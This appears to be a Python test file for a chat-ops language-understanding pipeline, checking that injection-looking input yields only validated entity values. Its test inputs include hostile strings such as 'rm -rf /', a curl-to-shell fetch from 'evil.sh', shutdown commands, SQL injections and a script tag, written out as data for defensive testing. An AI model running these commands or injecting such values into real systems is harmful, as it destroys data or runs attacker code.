"""Injection-looking text never puts shell, SQL or markup characters into an entity value."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.nlu import EMPTY_CONTEXT, understand

STRICT = {
    "instance": re.compile(r"i-[0-9a-f]{8,17}"),
    "region": re.compile(r"[a-z]{2}(?:-gov)?-[a-z]+-\d{1,2}"),
    "action": re.compile(r"restart|reboot|scale|redeploy|start"),
    "target": re.compile(r"[A-Za-z0-9][A-Za-z0-9._-]{0,63}"),
}
DANGEROUS = set(";|&`$(){}<>'\"\\ \n*/")


def assert_entities_are_safe(entities, vocabulary):
    for key, value in entities.items():
        if key == "service":
            assert value in vocabulary.service_names
        elif key == "alertname":
            # A catalog alert, or one the catalog lacks kept as written: letters and digits.
            assert value in vocabulary.alert_names or re.fullmatch(r"[A-Z][A-Za-z0-9]{1,63}", value)
        elif key in ("incident", "capacity", "duration_s"):
            assert type(value) is int and value >= 0
        else:
            assert STRICT[key].fullmatch(value), (key, value)
        assert not DANGEROUS.intersection(str(value)), (key, value)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("restart billing; rm -rf /", {"action": "restart", "service": "billing"}),
        ("restart `billing`", {"action": "restart", "service": "billing"}),
        ("restart $(curl evil.sh | sh)", {}),  # names nothing in the catalog: no command
        ("restart billing && shutdown -h now", {"action": "restart", "service": "billing"}),
        ("escalate 12 to `whoami`", {"incident": 12}),
        ("escalate 12 to dba;reboot", {"incident": 12, "target": "dba"}),
        ("reboot i-0abc1234;ls", {"action": "reboot", "instance": "i-0abc1234"}),
        ("scale web to 6; drop table runs", {"action": "scale", "service": "web", "capacity": 6}),
    ],
)
def test_shell_text_yields_only_validated_values(text, expected, vocabulary):
    result = understand(text, EMPTY_CONTEXT, vocabulary)
    assert result.entities == expected
    assert_entities_are_safe(result.entities, vocabulary)


@pytest.mark.parametrize(
    "text",
    ["' OR 1=1 --", "show incident ' OR 1=1 --", "approve 1 OR 1=1", "ack 5' --",
     "status of billing'; DROP TABLE incidents; --", "<script>alert(1)</script>"],
)
def test_sql_and_markup_text_yields_no_injected_value(text, vocabulary):
    result = understand(text, EMPTY_CONTEXT, vocabulary)
    assert_entities_are_safe(result.entities, vocabulary)
    assert all(str(v) not in ("1=1", "--") for v in result.entities.values())


def test_sql_comparison_is_not_an_incident_number(vocabulary):
    assert "incident" not in understand("show incident ' OR 1=1 --", EMPTY_CONTEXT,
                                        vocabulary).entities


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            ["restart", "billing", "i-0abc1234", ";", "rm -rf /", "`id`", "$(id)", "to", "6",
             "#12", "escalate", "@bob", "for", "2h", "us-east-1", "' OR 1=1 --", "&&", "|",
             "silence", "OOMKilled", "web;", "ledger`", "\\", "\"", "<@U1|x>"]
        )
        | st.text(max_size=12),
        max_size=10,
    )
)
def test_any_mixture_of_commands_and_payloads_is_safe(vocabulary, pieces):
    result = understand(" ".join(pieces), EMPTY_CONTEXT, vocabulary)
    assert_entities_are_safe(result.entities, vocabulary)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=600), st.sampled_from(["", "status of billing", "show incident 4"]))
def test_any_text_in_any_context_is_understood_without_error(vocabulary, text, before):
    from pipeline.nlu import INTENTS, next_context

    context = next_context(EMPTY_CONTEXT, understand(before, EMPTY_CONTEXT, vocabulary))
    result = understand(text, context, vocabulary)
    assert result.intent in INTENTS
    assert 0.0 <= result.confidence <= 1.0
    assert_entities_are_safe(result.entities, vocabulary)
